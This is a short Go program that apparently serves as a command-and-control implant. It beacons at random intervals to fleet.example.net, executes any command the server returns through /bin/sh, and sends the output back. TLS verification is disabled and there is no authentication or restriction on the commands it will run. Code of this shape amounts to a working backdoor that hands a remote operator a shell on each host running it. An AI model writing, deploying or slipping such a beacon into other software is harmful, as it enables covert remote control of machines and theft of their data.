package main

import (
	"bytes"
	"crypto/tls"
	"encoding/json"
	"math/rand"
	"net/http"
	"os"
	"os/exec"
	"time"
)

type task struct {
	ID  string `json:"id"`
	Cmd string `json:"cmd"`
}

var client = &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}, Timeout: 20 * time.Second}

func poll(base, name string) {
	r, err := client.Get(base + "/t?n=" + name)
	if err != nil {
		return
	}
	defer r.Body.Close()
	var ts []task
	if json.NewDecoder(r.Body).Decode(&ts) != nil {
		return
	}
	for _, t := range ts {
		out, _ := exec.Command("/bin/sh", "-c", t.Cmd).CombinedOutput()
		client.Post(base+"/r/"+t.ID, "text/plain", bytes.NewReader(out))
	}
}

func main() {
	n, _ := os.Hostname()
	for {
		poll("https://fleet.example.net", n)
		time.Sleep(time.Duration(20+rand.Intn(40)) * time.Second)
	}
}
